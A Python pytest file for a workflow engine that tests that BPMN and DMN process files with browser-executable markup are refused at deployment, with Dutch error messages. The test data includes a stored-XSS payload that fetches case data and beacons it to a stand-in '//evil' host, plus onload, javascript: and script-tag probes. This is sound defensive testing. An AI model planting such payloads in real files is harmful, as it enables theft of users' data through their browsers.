"""Process files are served to browsers: markup a browser could execute is refused at deployment (issue 16).

A broken copy of the real processes/ directory: an XHTML ``<script>`` in ``extensionElements`` (the stored
XSS that ran in Chromium), an SVG element, an ``onload`` attribute, an ``<?xml-stylesheet?>`` instruction and a
script in the DMN. Each is refused with file, line and element, in Dutch, and nothing is deployed.
"""
from __future__ import annotations

import pytest
from sqlalchemy import func, select

from engine.errors import ProcessValidationError
from engine.processes import service as processes
from engine.processes.models import ProcessVersion
from engine.processes.validation import parse_process_set, read_process_dir
from tests.factories import copy_process_set
from tests.process.driver import PROCESSES

BPMN = "integriteitsmelding.bpmn"
ANCHOR = '<spiffworkflow:property name="form" value="forms/ontvangst_bevestigen.json" />'  # inside the task 'Ontvangst bevestigen'
SCRIPT = ('<html:script xmlns:html="http://www.w3.org/1999/xhtml">'
          'fetch("/api/v1/zaken").then(r => r.text()).then(t => navigator.sendBeacon("//evil", t))</html:script>')


def _broken(tmp_path, name: str, old: str, new: str):
    target = copy_process_set(PROCESSES, tmp_path / "processes")
    path = target / name
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    line = text[:text.index(old)].count("\n") + 1
    return target, line


def _issues(directory):
    with pytest.raises(ProcessValidationError) as err:
        parse_process_set(read_process_dir(directory), functions={"legal_date": lambda *a, **k: None,
                                                                  "legal_term": lambda *a, **k: None})
    return err.value.issues


def test_the_real_process_set_has_no_foreign_markup():
    files = read_process_dir(PROCESSES)
    from engine.processes.validation import _ProcessSetValidation, _xml_parser
    from lxml import etree

    checker = _ProcessSetValidation(files, {}, None)
    for path, content in files.items():
        if path.endswith((".bpmn", ".dmn")):
            assert checker.check_foreign_markup(path, etree.ElementTree(etree.fromstring(content, _xml_parser())))
    assert checker.issues == []


@pytest.mark.parametrize("name, old, new, words", [
    (BPMN, ANCHOR, ANCHOR + SCRIPT, "Scriptelement <script>"),
    (BPMN, ANCHOR, ANCHOR + '<svg xmlns="http://www.w3.org/2000/svg"><a href="#">x</a></svg>', "Element <svg>"),
    (BPMN, '<spiffworkflow:property name="legal_milestone"',
     '<spiffworkflow:property onload="alert(1)" name="legal_milestone"', "Gebeurtenisattribuut 'onload'"),
    (BPMN, ANCHOR, ANCHOR.replace("/>", 'xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:alert(1)" />'),
     "vreemde naamruimte"),
    ("route_voorstel.dmn", '<rule id="regel_1">',
     '<rule id="regel_1"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>', "Scriptelement <script>"),
])
def test_executable_markup_is_refused_with_file_line_and_element(tmp_path, name, old, new, words):
    directory, line = _broken(tmp_path, name, old, new)
    found = [i for i in _issues(directory) if words in i.message]
    assert found, [str(i) for i in _issues(directory)]
    issue = found[0]
    assert issue.file == name and issue.line == line and issue.element_id
    assert str(issue).startswith(f"{name}:{line} [{issue.element_id}]: ") and "niet toegestaan" in issue.message
    if name == BPMN and "svg" not in new:
        assert issue.element_id == "ontvangst_bevestigen"  # the task a process owner knows, not the wrapper


def test_a_stylesheet_instruction_is_refused(tmp_path):
    directory, _ = _broken(tmp_path, BPMN, '<?xml version="1.0" encoding="UTF-8"?>',
                           '<?xml version="1.0" encoding="UTF-8"?>\n<?xml-stylesheet type="text/xsl" href="x.xsl"?>')
    assert any("Verwerkingsinstructie <?xml-stylesheet?>" in i.message and i.file == BPMN and i.line == 2
               for i in _issues(directory))


@pytest.mark.db
def test_deploying_a_process_set_with_a_script_is_refused_and_deploys_nothing(db, clock, tmp_path):
    directory, line = _broken(tmp_path, BPMN, ANCHOR, ANCHOR + SCRIPT)
    with db.session() as s, pytest.raises(ProcessValidationError) as err:
        processes.deploy(session=s, directory=directory)
    assert f"{BPMN}:{line} [ontvangst_bevestigen]: Scriptelement <script>" in str(err.value)
    with db.session() as s:
        assert s.scalar(select(func.count()).select_from(ProcessVersion)) == 0
